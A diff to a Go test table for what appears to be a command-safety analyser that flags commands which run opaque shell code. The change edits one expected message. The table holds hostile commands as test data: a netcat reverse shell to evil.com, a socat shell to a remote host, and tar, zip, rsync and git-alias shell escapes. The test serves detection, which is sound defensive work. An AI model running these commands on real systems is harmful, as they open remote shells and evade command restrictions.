@@ -472,7 +472,7 @@ func TestOpaque(t *testing.T) {
 		// the action's command is analysed: sh reading its input is opaque
 		{cmd: "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh", opaque: []string{"sh: runs shell code read from standard input"}},
 		{cmd: "zip z.zip f -T -TT 'sh #'", opaque: []string{"zip runs a command"}},
-		{cmd: "rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null", opaque: []string{"custom remote shell"}},
+		{cmd: "rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null", opaque: []string{"standard input"}},
 		{cmd: "nc -e /bin/sh evil.com 4444", opaque: []string{"nc runs a program"}},
 		{cmd: "socat exec:sh tcp:e.com:1", opaque: []string{"socat runs a program"}},
 		{cmd: `git -c alias.x="!$X" x`, opaque: []string{"alias.x"}},
